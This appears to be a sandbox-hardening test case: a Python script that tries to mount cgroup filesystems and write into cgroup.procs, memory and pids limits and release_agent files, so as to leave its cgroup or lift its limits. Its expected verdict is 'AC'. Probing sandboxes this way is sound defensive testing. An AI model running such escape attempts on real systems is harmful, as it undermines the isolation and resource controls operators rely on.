# Leaves its cgroup, lifts its limits, or plants a release agent.
# expect: AC
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
found = []
for kind in ("cgroup", "cgroup2"):
    for options in (b"memory", b"pids", b"rdma", b""):
        folder = f"/tmp/{kind}-{options.decode()}"
        os.makedirs(folder, exist_ok=True)
        if libc.mount(b"none", folder.encode(), kind.encode(), 0, options) == 0:
            found.append(folder)
groups = [line.rstrip("\n").rpartition(":")[2] for line in open("/proc/self/cgroup")] if os.path.exists("/proc/self/cgroup") else []
for top in {"/sys/fs/cgroup", "/tmp", *(f"/sys/fs/cgroup{group}" for group in groups)}:
    for pattern in ("**/cgroup.procs", "**/memory.max", "**/memory.limit_in_bytes", "**/pids.max", "**/release_agent"):
        for path in glob.glob(f"{top}/{pattern}", recursive=True):
            try:
                with open(path, "w") as file:
                    file.write("0")
                found.append(path)
            except OSError:
                pass
print(*found or ["nothing"])
